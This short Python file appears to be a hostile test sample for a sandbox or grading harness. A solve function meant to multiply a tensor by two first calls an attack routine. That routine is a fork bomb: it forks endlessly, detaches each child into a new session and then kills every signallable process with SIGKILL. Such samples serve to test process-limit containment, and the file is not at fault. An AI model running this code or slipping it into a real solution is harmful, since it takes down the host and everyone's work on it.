# hostile: family=processes verdict=time_limit build=time_limit lift=processes shows=harm
"""Every process forks for ever; each child leaves the session of its parent."""


def attack():
    import os
    import signal

    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
        if sum(name.isdigit() for name in os.listdir("/proc")) > 200:
            print("harm: 200 processes", flush=True)
            os.kill(-1, signal.SIGKILL)
            os._exit(0)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
